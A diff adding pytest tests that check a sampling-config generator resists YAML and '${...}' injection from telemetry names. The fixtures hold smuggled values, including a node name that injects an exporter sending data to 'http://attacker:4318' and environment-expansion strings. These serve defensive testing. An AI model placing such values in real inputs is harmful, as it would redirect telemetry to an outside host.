@@ -1,14 +1,18 @@
 """The tail_sampling config that `sloscope sampling tail-config` writes, against the OpenTelemetry Collector
 processor's documented schema; written atomically, and by the command from a database."""
 
+import http.server
+import json
 import re
 import subprocess
 import sys
+import threading
 
 import pytest
 import yaml
 
 from analytics.store import Store
+from commands.cli import main
 from sampling.observations import Observations, Sli
 from sampling.policy import SamplingConfig, SamplingPolicy
 from sampling.tail_sampling import render, to_yaml, write_atomic
@@ -139,3 +143,87 @@ def test_the_tail_config_is_written_atomically_and_by_the_cli(tmp_path):
     ts = validate_tail_config(out.read_text())
     assert any(p["name"] == "hot-tiers-slo.tier" for p in ts["policies"])
     assert "hot tiers p99-latency-critical" in result.stderr
+
+
+# How the Collector reads the file back: gopkg.in/yaml.v3 resolves plain scalars by the YAML 1.2 core schema, then
+# confmap expands `${...}` in every string and turns `$$` into `$`.
+YAML12_NOT_A_STRING = re.compile(r"true|True|TRUE|false|False|FALSE|~|null|Null|NULL|[-+]?[0-9]+|0o[0-7]+|"
+                                 r"0x[0-9a-fA-F]+|[-+]?(\.[0-9]+|[0-9]+(\.[0-9]*)?)([eE][-+]?[0-9]+)?|"
+                                 r"[-+]?\.(inf|Inf|INF)|\.(nan|NaN|NAN)")
+
+
+def plain_strings(node):
+    """The unquoted scalars that PyYAML (YAML 1.1) reads as strings."""
+    if isinstance(node, yaml.ScalarNode):
+        return [node.value] if node.style is None and node.tag == "tag:yaml.org,2002:str" else []
+    children = [v for kv in node.value for v in kv] if isinstance(node, yaml.MappingNode) else node.value
+    return [value for child in children for value in plain_strings(child)]
+
+
+def as_the_collector_reads(text: str) -> str:
+    out, i = [], 0
+    while i < len(text):
+        assert not text.startswith("${", i), f"{text!r}: the Collector would expand {text[i:]!r}"
+        out.append("$" if text.startswith("$$", i) else text[i])
+        i += 2 if text.startswith("$$", i) else 1
+    return "".join(out)
+
+
+def policy_with(services, hot_nodes):
+    tiers = {t: Sli(100, 0, 10.0) for t in SPEC.tiers}
+    return SamplingPolicy(SPEC, SamplingConfig(budget_spans_per_s=50)).evaluate(
+        Observations(T0, 60, {(STD, svc, "/r"): 6000 for svc in services}, tiers,
+                     {node: Sli(100, 60) for node in hot_nodes}))
+
+
+def test_a_hot_node_name_cannot_write_configuration_through_the_header():
+    evil = "gpu-1\nexporters:\n  otlphttp/elsewhere: {endpoint: 'http://attacker:4318'}\n#"
+    doc = policy_with(["llm-gateway"], [evil, "gpu-2\u2028x", "gpu-3\rx"])
+    text = to_yaml(render(doc), doc)
+    header = text[:text.index("\nprocessors:\n") + 1]
+    assert header.count("\n") == 5 and all(line.startswith("# ") for line in header.splitlines())
+    assert "gpu-1\\nexporters:" in header and "\u2028" not in header
+    ts = validate_tail_config(text)  # nothing but processors.tail_sampling
+    hot = next(p for p in ts["policies"] if p["name"] == "hot-nodes-k8s.node.name")
+    assert set(hot["string_attribute"]["values"]) == {evil, "gpu-2\u2028x", "gpu-3\rx"}
+
+
+def test_names_from_telemetry_reach_the_collector_as_they_were():
+    odd = ["${env:HOME}", "${http://attacker/x}", "pay$ment", "$$", "1e3", "0o17", "0x1F", "+12", ".inf", "null",
+           "yes", "True", "~", "a: b", "- x", "#x", "é-svc", "llm-gateway"]
+    doc = policy_with(odd, ["1e5", "gpu-node-3"])
+    text = to_yaml(render(doc), doc)
+    ts = validate_tail_config(text)
+    assert not [v for v in plain_strings(yaml.compose(text)) if YAML12_NOT_A_STRING.fullmatch(v)]
+    values = {as_the_collector_reads(v) for p in _walk(ts["policies"]) if p["type"] == "string_attribute"
+              for v in p["string_attribute"]["values"]}
+    assert set(odd) | {"1e5", "gpu-node-3"} <= values
+    assert "- name: errors" in text and "type: status_code" in text, "plain words stay plain"
+
+
+class _JsonAnswer(http.server.BaseHTTPRequestHandler):
+    body = json.dumps({"incidents": [], "generated_at": "2025-11-29T10:00:00Z"}).encode()
+
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(self.body)))
+        self.end_headers()
+        self.wfile.write(self.body)
+
+    def log_message(self, *args):
+        pass
+
+
+def test_a_url_that_answers_other_json_is_one_line_not_a_traceback(capsys):
+    server = http.server.HTTPServer(("127.0.0.1", 0), _JsonAnswer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        url = f"http://127.0.0.1:{server.server_address[1]}/rca"
+        for command in ("tail-config", "policy"):
+            assert main(["sampling", command, "--url", url]) == 2
+            err = capsys.readouterr().err
+            assert err.count("\n") == 1 and f"--url {url}: " in err and "not a sampling policy" in err, err
+    finally:
+        server.shutdown()
+        server.server_close()
